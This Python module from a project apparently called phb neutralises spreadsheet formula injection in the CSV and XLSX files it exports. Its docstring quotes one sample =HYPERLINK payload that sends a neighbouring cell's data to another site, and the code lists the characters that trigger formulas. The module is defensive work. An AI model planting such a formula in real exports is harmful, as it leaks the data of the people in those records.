"""Every CSV and XLSX file phb writes goes through here, so no cell can attack the spreadsheet that opens it.

Text typed by users and by banks (a budget line's description, a payee, a person's name) ends up in files that
staff open in Excel or LibreOffice. A cell that starts with ``=``, ``+``, ``-`` or ``@`` is a formula there:
``=HYPERLINK("http://…"&B5,"Open care notes")`` sends the row next to it to another site when clicked (CSV or
formula injection). OWASP's rule, which ASVS 5.0 V1.2.10 requires: a text cell starting with ``= + - @``,
TAB, CR (and NUL) gets a leading ``'``, which spreadsheets read as "this is text". The full-width forms of those
signs are included because some spreadsheet programs normalise them. Plain numbers (``-12.34``) are left as
they are: a negative amount is not a formula, and it must stay a number.

XLSX text cells are also written with the string type, so even a cell that escaped the rule could never be
stored as a formula.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, TextIO

if TYPE_CHECKING:
    from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?\Z")


def neutralise(value: object) -> object:
    """``value`` safe to put in a spreadsheet cell: text that a spreadsheet would run gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every cell has been through :func:`neutralise`."""

    def __init__(self, out: TextIO, **kwargs: Any) -> None:  # noqa: ANN401 - csv.writer's own keyword options
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        """Write many rows."""
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, **kwargs: Any) -> SafeCsvWriter:  # noqa: ANN401 - passed on to csv.writer
    """The only way phb writes CSV."""
    return SafeCsvWriter(out, **kwargs)


def xlsx_append(sheet: Worksheet, row: Iterable[object]) -> None:
    """Append a row to a worksheet: text neutralised and typed as text, numbers left as numbers."""
    values = [neutralise(value) for value in row]
    sheet.append(values)
    if not values:
        return
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
